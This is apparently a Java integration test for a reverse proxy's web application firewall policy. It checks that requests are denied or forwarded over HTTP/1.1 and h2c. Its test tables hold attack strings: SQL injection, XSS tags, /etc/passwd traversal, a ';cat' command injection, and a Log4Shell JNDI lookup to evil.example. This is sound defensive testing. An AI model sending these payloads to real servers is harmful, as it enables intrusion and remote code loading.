package io.paduraksa.server;

import static org.assertj.core.api.Assertions.assertThat;

import io.netty.handler.codec.http2.Http2Headers;
import io.paduraksa.server.http2.H2Client;
import io.paduraksa.server.testing.RawHttp;
import io.paduraksa.server.testing.TestOrigin;
import io.paduraksa.server.testing.TestServer;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * {@code type: attacks} in the real server over HTTP/1.1 and h2c: attacks in the query, path, cookie
 * and User-Agent are answered 403 by the gate, benign requests (look-alikes included) are forwarded,
 * an exclusion lets its argument through on its path, and {@code detect_only} forwards everything.
 * With {@code all_headers} a Java payload in any header field (the second of a repeated one too)
 * is denied over both protocols.
 */
class AttacksPolicyIT {
    private static final String CHROME = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";
    static TestOrigin origin;
    static TestServer server;

    @BeforeAll
    static void start() throws Exception {
        origin = new TestOrigin("origin");
        server = TestServer.start("""
                listeners:
                  - {name: mixed, address: "127.0.0.1:0", protocols: [http1, h2c]}
                  - {name: admin, address: "127.0.0.1:0", admin: true}
                clusters:
                  app: {destinations: [{url: "%s"}]}
                policies:
                  waf:
                    type: attacks
                    paranoia: 1
                    threshold: 5
                    inspect: {path: true, query: true, cookies: true, headers: [User-Agent, Referer]}
                    exclusions:
                      - {rules: [942100], arguments: [q], paths: [/search]}
                    action: {respond: {status: 403}}
                  watch: {type: attacks, detect_only: true}
                  waf-metrics: {type: attacks}
                  waf-all: {type: attacks, inspect: {all_headers: true}}
                hosts:
                  - names: [shop.test]
                    policies: [waf]
                    routes: [{path: /, forward: app}]
                  - names: [watch.test]
                    policies: [watch]
                    routes: [{path: /, forward: app}]
                  - names: [metrics.test]
                    policies: [waf-metrics]
                    routes: [{path: /, forward: app}]
                  - names: [all.test]
                    policies: [waf-all]
                    routes: [{path: /, forward: app}]
                """.formatted(origin.url()));
    }

    @AfterAll
    static void stop() {
        server.close();
        origin.close();
    }

    @ParameterizedTest(name = "{0} {1} -> {4}")
    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
            shop.test  | /products?q=red+shoes&page=2                       | -                     | -          | 200
            shop.test  | /products?q=O%27Brien                              | -                     | -          | 200
            shop.test  | /products?q=select+a+size&n=1+or+2+items           | -                     | -          | 200
            shop.test  | /products?q=%27+or+1%3D1--                         | -                     | -          | 403
            shop.test  | /products?q=%3Cscript%3Ealert(1)%3C/script%3E      | -                     | -          | 403
            shop.test  | /products?file=../../etc/passwd                    | -                     | -          | 403
            shop.test  | /products?cmd=%3Bcat+/etc/hosts                    | -                     | -          | 403
            shop.test  | /products?x=%24%7Bjndi:ldap://evil.example/a%7D    | -                     | -          | 403
            shop.test  | /products                                          | session=x%27%20or%201=1-- | -          | 403
            shop.test  | /products                                          | theme=dark; lang=en   | -          | 200
            shop.test  | /products                                          | -                     | sqlmap/1.7 | 403
            shop.test  | /search?q=a+union+select+1                         | -                     | -          | 200
            shop.test  | /products?q=1+union+select+1                       | -                     | -          | 403
            shop.test  | /search?id=1+union+select+1                        | -                     | -          | 403
            watch.test | /products?q=%3Cscript%3Ealert(1)%3C/script%3E      | -                     | -          | 200
            """)
    void http1AttacksAreDeniedAndBenignRequestsForwarded(String host, String target, String cookie, String userAgent, int status)
            throws Exception {
        StringBuilder request = new StringBuilder("GET " + target + " HTTP/1.1\r\nHost: " + host + "\r\n");
        request.append("User-Agent: ").append(userAgent == null || userAgent.equals("-") ? CHROME : userAgent).append("\r\n");
        if (cookie != null && !cookie.equals("-")) {
            request.append("Cookie: ").append(cookie).append("\r\n");
        }
        try (RawHttp c = new RawHttp(server.port("mixed"))) {
            RawHttp.Response r = c.exchange(request.append("\r\n").toString());

            assertThat(r.status()).as(r.toString()).isEqualTo(status);
            if (status == 200) {
                assertThat(r.body()).contains("origin: origin");
            }
        }
    }

    @ParameterizedTest(name = "{0} {1} -> {4}")
    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
            shop.test  | /products?q=red+shoes&page=2                       | -                     | -          | 200
            shop.test  | /products?q=%27+or+1%3D1--                         | -                     | -          | 403
            shop.test  | /products?q=%3Csvg/onload=alert(1)%3E              | -                     | -          | 403
            shop.test  | /products                                          | session=x%27%20or%201=1-- | -          | 403
            shop.test  | /products                                          | -                     | nikto/2.5  | 403
            shop.test  | /search?q=a+union+select+1                         | -                     | -          | 200
            watch.test | /products?q=%27+or+1%3D1--                         | -                     | -          | 200
            """)
    void h2cAttacksAreDeniedAndBenignRequestsForwarded(String host, String path, String cookie, String userAgent, int status)
            throws Exception {
        Http2Headers headers = H2Client.headers("GET", host, path);
        headers.add("user-agent", userAgent == null || userAgent.equals("-") ? CHROME : userAgent);
        if (cookie != null && !cookie.equals("-")) {
            headers.add("cookie", cookie);
        }
        try (H2Client c = H2Client.connect(server.port("mixed"))) {
            H2Client.Response r = c.send(headers, null, true).done.get(5, TimeUnit.SECONDS);

            assertThat(r.status()).as(r.toString()).isEqualTo(status);
            if (status == 200) {
                assertThat(r.body()).contains("origin: origin");
            }
        }
    }

    @Test
    void metricsCountMatchesPerGroupAndDenials() throws Exception {
        try (RawHttp client = new RawHttp(server.port("mixed"));
             RawHttp admin = new RawHttp(server.port("admin"))) {
            Map<String, Double> before = MetricsIT.Exposition.parse(MetricsIT.scrape(admin)).samples;
            assertThat(client.exchange(MetricsIT.get("metrics.test", "/p?q=%3Cscript%3E", "")).status()).isEqualTo(403);
            assertThat(client.exchange(MetricsIT.get("metrics.test", "/p?q=shoes", "")).status()).isEqualTo(200);

            Map<String, Double> after = MetricsIT.Exposition.parse(MetricsIT.scrape(admin)).samples;
            String xss = "paduraksa_attack_rule_matches_total{policy=\"waf-metrics\",group=\"941\"}";
            String denied = "paduraksa_attack_requests_total{policy=\"waf-metrics\",outcome=\"denied\"}";
            String hits = "paduraksa_policy_hits_total{policy=\"waf-metrics\"}";
            assertThat(after.get(xss) - before.getOrDefault(xss, 0.0)).isEqualTo(1.0);
            assertThat(after.get(denied) - before.getOrDefault(denied, 0.0)).isEqualTo(1.0);
            assertThat(after.get(hits) - before.getOrDefault(hits, 0.0)).isEqualTo(1.0);
        }
    }

    @ParameterizedTest(name = "{0} {1}: {2} -> {3}")
    @CsvSource(delimiter = '|', quoteCharacter = 0, textBlock = """
            all.test  | X-Api-Client | com.opensymphony.xwork2            | 403
            all.test  | X-Trace      | ${jndi:ldap://evil.example/a}      | 403
            all.test  | X-Api-Client | com.example.shop.android/5.2.1     | 200
            shop.test | X-Api-Client | com.opensymphony.xwork2            | 200
            """)
    void allHeadersInspectsEveryHeaderOverBothProtocols(String host, String name, String value, int status) throws Exception {
        try (RawHttp c = new RawHttp(server.port("mixed"))) {
            RawHttp.Response r = c.exchange("GET /account HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + CHROME + "\r\n"
                    + name + ": benign\r\nAccept: text/html\r\n" + name + ": " + value + "\r\n\r\n");

            assertThat(r.status()).as("HTTP/1.1: " + r).isEqualTo(status);
        }
        Http2Headers headers = H2Client.headers("GET", host, "/account");
        headers.add("user-agent", CHROME);
        headers.add(name.toLowerCase(java.util.Locale.ROOT), "benign");
        headers.add("accept", "text/html");
        headers.add(name.toLowerCase(java.util.Locale.ROOT), value);
        try (H2Client c = H2Client.connect(server.port("mixed"))) {
            H2Client.Response r = c.send(headers, null, true).done.get(5, TimeUnit.SECONDS);

            assertThat(r.status()).as("h2c: " + r).isEqualTo(status);
        }
    }
}
